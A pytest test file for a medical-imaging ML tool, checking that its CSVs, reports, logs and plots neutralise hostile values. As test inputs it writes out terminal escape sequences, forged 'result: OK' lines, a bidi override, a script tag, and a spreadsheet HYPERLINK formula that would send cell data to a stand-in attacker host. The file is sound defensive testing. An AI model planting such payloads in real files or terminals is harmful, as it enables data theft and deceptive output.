"""Hostile values in what medmulti writes for people (issue 13, items 3, 6 and 16).

* 3: CSV formula injection - predictions CSVs neutralise patient keys and class
  names a spreadsheet would run (``=HYPERLINK(...)``, ``-1+2``, ``@SUM``), numbers
  stay numbers.
* 6: terminal escapes and forged lines - patient keys, paths, labels, splits and
  header values are printed with control, format and line-break characters
  escaped: in report text and HTML, error messages, log lines and every command.
* 16: plot text is literal - class names and ``--patient-id`` holding ``$...$`` are
  drawn as typed, never parsed as mathtext (an invalid one used to crash ``train``
  after the whole fit, leaving no ``metrics.json``).

The command-line tests run ``python -m medmulti.cli`` as a subprocess in a tmp
folder on a generated cohort whose manifest was edited to plant the values.
"""

from __future__ import annotations

import csv
import doctest
import io
import json
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest
from medmulti_testing.terminal_output import (
    TERMINAL_HOSTILE_CHARACTERS,
    control_character_campaign,
    forged_lines,
    raw_controls,
)

import medmulti
from medmulti.errors import ManifestError, MissingFileError
from medmulti.manifest.report import Problem, ValidationReport
from medmulti.text import CSV_FORMULA_PREFIXES, PrintableFormatter, csv_safe, printable

OSC_TITLE = "P1\x1b]0;PWNED\x07\x1b[2J"  # sets the window title, then clears the screen
FORGED_LF = "P2\nresult: OK"
BIDI = "P3\u202eKO :tluser"  # shows as "P3resu lt: OK" reversed
FORGED_CR = "P4\rresult: OK"
HOSTILE_IDS = (OSC_TITLE, FORGED_LF, BIDI, FORGED_CR)
MATHTEXT = "$\\frac{$"  # invalid mathtext: matplotlib raises ValueError when drawing it


# -- helpers --------------------------------------------------------------------------------
def run_cli(*args: str, cwd: Path, timeout: float = 600) -> subprocess.CompletedProcess:
    """``python -m medmulti.cli ARGS`` in ``cwd``, output decoded as UTF-8 (bytes kept as given)."""
    env = dict(os.environ, PYTHONIOENCODING="utf-8", TF_CPP_MIN_LOG_LEVEL="3")
    proc = subprocess.run([sys.executable, "-m", "medmulti.cli", *args], cwd=cwd, env=env, capture_output=True,
                          timeout=timeout)
    proc.stdout = proc.stdout.decode("utf-8", errors="surrogateescape")
    proc.stderr = proc.stderr.decode("utf-8", errors="surrogateescape")
    return proc


def assert_safe_output(proc: subprocess.CompletedProcess, genuine_ok_lines: int = 0) -> None:
    """No raw ESC/BEL/CR/C1/bidi character, no forged ``result: OK`` line, no traceback."""
    for name, text in (("stdout", proc.stdout), ("stderr", proc.stderr)):
        for raw in ("\x1b", "\x07", "\r", "\x9b", "\u202e", "\u2028"):
            assert raw not in text, f"raw {raw!r} in {name}:\n{text!r}"
        assert raw_controls(text) == [], f"{name}: {text!r}"
        assert "Traceback (most recent call last)" not in text, text
    assert forged_lines(proc.stdout + "\n" + proc.stderr, "result: OK") == genuine_ok_lines, proc.stdout


def read_manifest(path: Path) -> tuple[list[str], list[list[str]]]:
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    comments = [ln for ln in lines if ln.startswith("#")]
    return comments, list(csv.reader(io.StringIO("".join(ln for ln in lines if not ln.startswith("#")))))


def write_manifest(path: Path, comments: list[str], rows: list[list[str]]) -> Path:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    path.write_text("".join(comments) + buf.getvalue(), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def cohort(tmp_path_factory):
    """A 4-patient sample cohort (real DICOM/NIfTI files), no injected faults."""
    return medmulti.make_sample_cohort(tmp_path_factory.mktemp("hostile_output") / "cohort", n_patients=4, seed=0,
                                       faults=False, progress=False)


@pytest.fixture(scope="module")
def hostile_manifest(cohort) -> Path:
    """The cohort's manifest with hostile patient keys, and CT paths that do not exist (so every row is reported)."""
    comments, rows = read_manifest(cohort.manifest)
    header = rows[0]
    pid, ct = header.index("patient_id"), header.index("ct")
    for row, key, path in zip(rows[1:], HOSTILE_IDS, ("gone\x1b[31m/ct", "gone\nresult: OK/ct",
                                                          "gone\x9b2J/ct", "gone\r/ct")):
        row[pid], row[ct] = key, path
    return write_manifest(cohort.root / "hostile.csv", comments, rows)


# -- the helpers ----------------------------------------------------------------------------
@pytest.mark.parametrize("module", ["medmulti.text", "medmulti_testing.terminal_output"])
def test_docstring_examples_run(module):
    import importlib

    result = doctest.testmod(importlib.import_module(module))
    assert result.attempted > 0 and result.failed == 0


@pytest.mark.parametrize("char", ["\x00", *TERMINAL_HOSTILE_CHARACTERS, "\ud800", "\U000e0001", "\ue000", "\u0378"],
                         ids=lambda c: f"U+{ord(c):04X}")
def test_printable_escapes_every_control_format_and_line_break_character(char):
    shown = printable(f"a{char}b")
    assert raw_controls(shown) == [] and "\n" not in shown
    assert shown.startswith("a\\") and shown.endswith("b") and char not in shown
    shown.encode("utf-8")  # a lone surrogate (a file name under surrogateescape) cannot break printing


@pytest.mark.parametrize("text", ["SYN0001", "Müller/ct 01", "患者-７", "C:\\data\\p1", "a\u00a0b", "x=1+2",
                                  "é\u0301"])
def test_printable_keeps_ordinary_text(text):
    assert printable(text) == text


@pytest.mark.parametrize("prefix", CSV_FORMULA_PREFIXES)
def test_csv_safe_quotes_every_formula_prefix(prefix):
    assert csv_safe(prefix + "1+2") == "'" + prefix + "1+2"


@pytest.mark.parametrize("cell", ["SYN0001", "", "p_=1", " =1", -1, -0.25, 3, None])
def test_csv_safe_keeps_text_and_numbers(cell):
    assert csv_safe(cell) == cell and type(csv_safe(cell)) is type(cell)


# -- item 6: errors, report, logs -----------------------------------------------------------
def test_error_text_is_one_line_without_control_characters_and_keeps_the_raw_fields():
    err = MissingFileError(f"patient {FORGED_LF} has no CT at {OSC_TITLE}", patient_id=BIDI, path=FORGED_CR,
                           modality="ct\x1b[2J", keyword="Modality\u202e", hint="rename 'a\x1b]0;x\x07'\nresult: OK")
    for text in (str(err), err.args[0], str(pickle.loads(pickle.dumps(err)))):
        assert raw_controls(text) == [] and "\n" not in text
        assert "\\nresult: OK" in text and "\\x1b]0;PWNED\\x07" in text
    assert err.message.startswith(f"patient {FORGED_LF}")  # the record keeps the value as given
    assert pickle.loads(pickle.dumps(err)).context() == err.context()
    err = ManifestError("bad value\x1b[2J", row=3, column="x\nresult: OK").with_context(patient_id=OSC_TITLE)
    assert raw_controls(str(err)) == [] and "\n" not in str(err)


def test_report_text_and_html_escape_every_field(tmp_path):
    problems = [Problem(key, "ct\x1b[1m", f"{key}/ct", "missing_file", "error", f"no file for {key}",
                        hint=f"check {key}") for key in HOSTILE_IDS]
    problems.append(Problem("<script>alert(1)</script>\x1b[2J", None, None, "x\nresult: OK", "warning", "m"))
    report = ValidationReport(problems=problems, patients=list(HOSTILE_IDS), manifest_path="m\x1b]0;t\x07.csv")
    text = str(report)
    assert raw_controls(text) == []
    assert len(text.splitlines()) == len(report.summary().splitlines()) + len(problems)
    assert forged_lines(text, "result: OK") == 0 and forged_lines(text, "result:") == 1
    page = report.to_html(tmp_path / "r.html").read_text(encoding="utf-8")
    assert raw_controls(page) == [] and "<script>" not in page and "&lt;script&gt;" in page
    records = json.loads(report.to_json(tmp_path / "r.json").read_text(encoding="utf-8"))
    assert {r["patient_id"] for r in records} >= set(HOSTILE_IDS)  # JSON: exact values, escaped by json


def test_log_formatter_escapes_the_message_and_keeps_the_traceback():
    import logging

    try:
        raise ValueError("boom")
    except ValueError:
        record = logging.LogRecord("medmulti.x", logging.WARNING, __file__, 1, "patient %s: %s",
                                   (FORGED_LF, OSC_TITLE), sys.exc_info())
    text = PrintableFormatter("%(levelname)s %(name)s: %(message)s").format(record)
    first, *rest = text.split("\n")
    assert raw_controls(first) == [] and first.startswith("WARNING medmulti.x: patient P2\\nresult: OK")
    assert rest and rest[0].startswith("Traceback")


# -- item 6: the commands -------------------------------------------------------------------
def test_validate_escapes_hostile_keys_and_paths(cohort, hostile_manifest, tmp_path):
    proc = run_cli("validate", str(hostile_manifest), "--spec", str(cohort.spec), "--no-progress", "--workers", "1",
                   "--json", str(tmp_path / "r.json"), "--html", str(tmp_path / "r.html"), cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert_safe_output(proc)
    results = [ln for ln in proc.stdout.splitlines() if ln.startswith("result:")]
    assert len(results) == 1 and results[0].startswith("result: 4 error(s)"), proc.stdout
    # keys may be normalised on load (item 8); paths are shown as written, escaped
    for shown in ("gone\\x1b[31m/ct", "gone\\nresult: OK/ct", "gone\\x9b2J/ct", "gone\\r/ct"):
        assert shown in proc.stdout
    assert raw_controls((tmp_path / "r.html").read_text(encoding="utf-8")) == []
    records = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert {"gone\x1b[31m/ct", "gone\nresult: OK/ct"} <= {r["path"] for r in records}  # JSON: exact values


def test_validate_escapes_hostile_splits_labels_and_columns(cohort, tmp_path):
    comments, rows = read_manifest(cohort.manifest)
    header = rows[0]
    rows[1][header.index("split")] = "test\x1b[2J\nresult: OK"
    rows[2][header.index("diagnosis")] = "sick\x1b]0;x\x07\nresult: OK"
    extra_column = [header + ["x\x1b[2J\nresult: OK"]] + [r + [""] for r in rows[1:]]
    for name, table in (("values", rows), ("column", extra_column)):
        manifest = write_manifest(tmp_path / f"{name}.csv", comments, table)
        proc = run_cli("validate", str(manifest), "--spec", str(cohort.spec), "--no-progress", "--workers", "1",
                       cwd=cohort.root)
        assert proc.returncode in (1, 2), proc.stderr
        assert_safe_output(proc)


def test_preprocess_escapes_failures(cohort, hostile_manifest, tmp_path):
    proc = run_cli("preprocess", str(hostile_manifest), "--spec", str(cohort.spec), "--cache", str(tmp_path / "c"),
                   "--no-progress", "--workers", "1", cwd=tmp_path)
    assert proc.returncode == 1, proc.stderr
    assert_safe_output(proc)
    assert " ct gone\\nresult: OK/ct: MissingFileError" in proc.stdout


def test_info_escapes_folder_names_and_header_values(cohort, tmp_path):
    import warnings

    import pydicom

    folder = tmp_path / "series\x1b[2J\nresult: OK"
    folder.mkdir()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # pydicom: invalid CS value, on purpose
        for f in sorted((cohort.root / cohort.patient_ids[0] / "ct").iterdir()):
            ds = pydicom.dcmread(f)
            ds.Modality = "CT\x1b]0;PWNED\x07"
            ds.save_as(folder / f.name)
    proc = run_cli("info", folder.name, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert_safe_output(proc)
    assert "series\\x1b[2J\\nresult: OK: 1 image series" in proc.stdout and "CT\\x1b]0;PWNED\\x07" in proc.stdout
    proc = run_cli("info", "--json", folder.name, cwd=tmp_path)
    assert json.loads(proc.stdout)["image"]["modality"] == "CT\x1b]0;PWNED\x07"  # JSON: exact, escaped by json


# -- item 16 (and the log line of item 6): inspect ------------------------------------------
def test_inspect_draws_a_mathtext_patient_id_literally_and_escapes_the_log_line(cohort, tmp_path):
    pid = f"{MATHTEXT}\x1b[2J\nresult: OK"
    p1 = cohort.patient_ids[0]
    # no CT: preprocess logs a warning naming the patient ("reference modality 'ct' missing")
    proc = run_cli("inspect", f"mr={cohort.root / p1 / 'mr.nii.gz'}", f"xray={cohort.root / p1 / 'xray.dcm'}",
                   "--spec", str(cohort.spec), "--patient-id", pid, "--out", "study.png", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert_safe_output(proc)
    assert "patient $\\frac{$\\x1b[2J\\nresult: OK" in proc.stderr
    assert (tmp_path / "study.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_plots_draw_class_names_and_titles_literally(tmp_path):
    import numpy as np

    from medmulti.models.plots import plot_confusion_roc, plot_history

    classes = [MATHTEXT, "=1+2", "a\x1b[2J\nb", "$x$"]
    y = np.array([0, 1, 2, 3, 0, 1, 2, 3])
    p = np.eye(4)[[0, 1, 2, 3, 1, 0, 3, 2]] * 0.7 + 0.075
    plot_confusion_roc(y, p, classes, tmp_path / "cr.png", title=f"run {MATHTEXT}")
    plot_confusion_roc(np.eye(4)[y], p, classes, tmp_path / "ml.png", multi_label=True, title=MATHTEXT)
    plot_history({"loss": [1.0, 0.5], "val_loss": [1.1, 0.7]}, tmp_path / "h.png", title=f"{MATHTEXT}\x1b")
    for name in ("cr.png", "ml.png", "h.png"):
        assert (tmp_path / name).stat().st_size > 1000


def test_plot_text_is_not_parsed_as_mathtext(tmp_path):
    from matplotlib.figure import Figure

    from medmulti.models import plots

    drawn: list = []
    real = Figure.savefig

    def savefig(fig, *args, **kwargs):
        drawn.extend(t for t in fig.findobj(lambda a: hasattr(a, "get_parse_math")) if t.get_text())
        return real(fig, *args, **kwargs)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(Figure, "savefig", savefig)
        plots.plot_confusion_roc([0, 1, 1, 0], [[0.8, 0.2], [0.3, 0.7], [0.4, 0.6], [0.6, 0.4]], ["$a$", "$b$"],
                                 tmp_path / "x.png", title="$t$")
    user_text = [t for t in drawn if "$" in t.get_text()]
    assert len(user_text) >= 5  # tick labels, legend, title
    assert all(not t.get_parse_math() for t in user_text)


# -- items 3, 16 and 6: train and predict end to end ----------------------------------------
@pytest.mark.slow
def test_train_and_predict_with_formula_keys_and_mathtext_class_names(cohort, tmp_path):
    """One epoch on the X-ray input: the run completes, the CSVs cannot run formulas."""
    ids = {cohort.patient_ids[0]: '=HYPERLINK("http://evil.example/?"&A1,"open")',
           cohort.patient_ids[1]: "-1+2\x1b[2J", cohort.patient_ids[2]: "@SUM(A1:A9)",
           cohort.patient_ids[3]: "+P4\nresult: OK"}
    classes = {"healthy": "=1+2", "disease": MATHTEXT}
    comments, rows = read_manifest(cohort.manifest)
    header = rows[0]
    for row in rows[1:]:
        row[header.index("patient_id")] = ids[row[header.index("patient_id")]]
        row[header.index("diagnosis")] = classes[row[header.index("diagnosis")]]
    manifest = write_manifest(cohort.root / "formulas.csv", comments, rows)
    spec_text = cohort.spec.read_text(encoding="utf-8").replace("  - healthy\n  - disease\n",
                                                                 "  - =1+2\n  - $\\frac{$\n")
    assert spec_text != cohort.spec.read_text(encoding="utf-8")
    spec = cohort.root / "formulas.yaml"
    spec.write_text(spec_text, encoding="utf-8")

    proc = run_cli("train", str(manifest), "--spec", str(spec), "--out", "run", "--modalities", "xray",
                   "--epochs", "1", "--batch-size", "2", "--width", "4", "--depth", "1", "--no-progress",
                   cwd=tmp_path)
    run = tmp_path / "run"

    def check_predictions(path: Path, n: int) -> None:
        with open(path, newline="", encoding="utf-8") as fh:
            records = list(csv.DictReader(fh))
        assert len(records) == n
        for rec in records:
            # every key here starts with = - @ or +: each is kept, behind a quote
            assert rec["patient_id"][:1] == "'" and rec["patient_id"][1:].startswith(CSV_FORMULA_PREFIXES), rec
            for column in ("true", "predicted"):
                if column in rec:
                    assert rec[column] in ("'=1+2", MATHTEXT), rec
            for column in ("p_=1+2", "p_$\\frac{$"):
                assert 0.0 <= float(rec[column]) <= 1.0  # probabilities stay plain numbers

    # item 3 first: the predictions are written before the pictures
    check_predictions(run / "predictions_test.csv", 1)
    check_predictions(run / "predictions_val.csv", 1)
    # item 16: the pictures did not crash the run
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert_safe_output(proc)
    for name in ("metrics.json", "confusion_roc.png", "curves.png"):
        assert (run / name).is_file(), name
    proc = run_cli("predict", "run", str(manifest), "--out", "scores.csv", "--no-progress", cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert_safe_output(proc)
    check_predictions(tmp_path / "scores.csv", 4)


# -- the stress tier's campaign, on a few characters ----------------------------------------
@pytest.mark.slow
def test_control_character_campaign_finds_nothing(tmp_path):
    res = control_character_campaign(tmp_path, chars=("\x1b", "\x9b", "\u202e", "\r"), fields=("patient_id", "ct"))
    assert res["runs"] == 6
    assert res["leaks"] == [] and res["forged"] == [] and res["tracebacks"] == []
